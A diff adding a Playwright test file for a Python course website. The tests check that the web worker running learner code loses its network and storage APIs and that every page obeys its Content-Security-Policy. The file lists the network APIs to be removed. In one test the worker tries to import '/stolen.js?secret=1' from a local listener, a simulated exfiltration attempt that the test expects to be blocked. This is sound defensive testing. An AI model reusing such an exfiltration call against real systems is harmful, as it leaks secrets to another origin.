@@ -1,0 +1,162 @@
+"""Defence in depth against learner code that reaches the worker's JavaScript:
+the worker drops its network and storage powers once Python is up, and every page
+(and the worker, where the host sends `_headers`) runs under a Content-Security-Policy
+that no page of the course violates."""
+
+import functools
+import re
+import threading
+import time
+from http.server import ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import expect
+
+from .conftest import PYTHON_READY
+from .helpers import LEVEL, check, exercise
+from .site_server import Handler, build_and_serve, header_rules
+
+POWERS = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "caches", "indexedDB",
+          "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "FontFace"]
+VIOLATIONS = """
+    window.__cspViolations = [];
+    document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(
+        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
+"""
+
+
+def wait_until(page, expression, timeout=60_000):
+    """page.wait_for_function's eval() is refused by the CSP (no 'unsafe-eval'): poll instead."""
+    deadline = time.monotonic() + timeout / 1000
+    while not page.evaluate(f"!!({expression})"):
+        if time.monotonic() > deadline:
+            raise AssertionError(f"timed out waiting for {expression}")
+        page.wait_for_timeout(100)
+
+
+def python_ready(page, timeout=60_000):
+    wait_until(page, PYTHON_READY, timeout)
+
+
+def strict_context(browser, **options):
+    """A context that enforces the CSP (conftest's may bypass it for wait_for_function)."""
+    context = browser.new_context(**{"service_workers": "block", "bypass_csp": False, **options})
+    context.add_init_script(VIOLATIONS)
+    return context
+
+
+def new_page(context):
+    page = context.new_page()
+    page.set_default_timeout(20_000)
+    page.on("dialog", lambda dialog: dialog.accept())
+    page.errors = []
+    page.on("pageerror", lambda e: page.errors.append(str(e)))
+    return page
+
+
+def python_worker(page):
+    wait_until(page, "window.__coursePython && window.__coursePython.worker")
+    for worker in page.workers:
+        if re.search(r"/assets/course/worker\.[^/]*\.js$", worker.url):
+            return worker
+    raise AssertionError(f"no Python worker among {[w.url for w in page.workers]}")
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """A server on another origin that counts the requests it gets."""
+    hits = []
+
+    class Counting(Handler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/javascript")
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            self.wfile.write(b"export default 1;")
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Counting)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://localhost:{server.server_address[1]}", hits
+    server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory):
+    """The site built once, served twice: with its `_headers` (as Netlify or Cloudflare Pages
+    would) and with no headers at all (a host that ignores that file)."""
+    directory = tmp_path_factory.mktemp("site-csp")
+    server, url = build_and_serve(directory)
+    handler = type("Plain", (Handler,), {"rules": ()})
+    plain = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=str(directory)))
+    threading.Thread(target=plain.serve_forever, daemon=True).start()
+    yield {"directory": directory, "headers": url, "plain": f"http://127.0.0.1:{plain.server_address[1]}"}
+    server.shutdown()
+    plain.shutdown()
+
+
+def pages_of(directory):
+    return sorted("/" + p.relative_to(directory).as_posix().removesuffix("index.html")
+                  for p in directory.rglob("*.html") if p.name in ("index.html", "404.html"))
+
+
+def test_the_worker_drops_its_powers_once_python_is_up(browser, built, listener):
+    origin, hits = listener
+    context = strict_context(browser)
+    page = new_page(context)
+    page.goto(built["headers"] + LEVEL)
+    python_ready(page)
+    assert page.evaluate("window.__coursePython.workerKept") == []
+    worker = python_worker(page)
+    left = worker.evaluate(f"""() => {{
+        const names = {POWERS!r};
+        const left = names.filter((n) => n in self);
+        for (const n of ["storage", "locks", "serviceWorker"]) if (n in navigator) left.push("navigator." + n);
+        return left;
+    }}""")
+    assert left == []
+    # what is left to reach another origin: import(), which the worker's CSP (from `_headers`) refuses
+    outcome = worker.evaluate(f"import({origin + '/stolen.js?secret=1'!r}).then(() => 'loaded', (e) => 'refused')")
+    assert outcome == "refused"
+    assert hits == []
+    ex = exercise(page, "quiz-sub-backward")  # and Python still works
+    expect(check(ex)).not_to_contain_text("Python could not start")
+    assert page.evaluate("window.__coursePython.cspViolations.length") >= 1  # the refused import()
+    assert page.errors == []
+    context.close()
+
+
+@pytest.mark.parametrize("served", ["headers", "plain"])
+def test_no_page_violates_the_content_security_policy(browser, built, served):
+    base = built[served]
+    context = strict_context(browser)
+    page = new_page(context)
+    headers = header_rules(built["directory"])
+    assert any(pattern == "/*" and any(n == "Content-Security-Policy" for n, _ in h) for pattern, h in headers)
+    checked = 0
+    for path in pages_of(built["directory"]):
+        page.goto(base + path)
+        assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1, path
+        exercises = page.locator(".course-exercise:visible")
+        if exercises.count():
+            python_ready(page)
+            result = check(exercises.first, timeout=60_000)
+            expect(result).not_to_contain_text("Python could not start")
+            checked += 1
+        elif page.locator(".course-lab").count():
+            python_ready(page)
+        page.wait_for_timeout(300)
+        violations = page.evaluate("window.__cspViolations")
+        worker = page.evaluate("window.__coursePython ? window.__coursePython.cspViolations : []")
+        assert violations == [] and worker == [], f"{path}: {violations} {worker}"
+    assert checked >= 2
+    # Material's instant navigation runs the next page's inline scripts under the first page's policy
+    page.goto(base + "/")
+    page.locator('.course-map a[data-level="autograd"]').click()
+    page.wait_for_url(re.compile(r"/autograd/$"))
+    expect(page.locator(".course-exercise").first).to_be_visible()
+    page.wait_for_timeout(500)
+    assert page.evaluate("window.__cspViolations") == []
+    assert page.errors == [], page.errors
+    context.close()
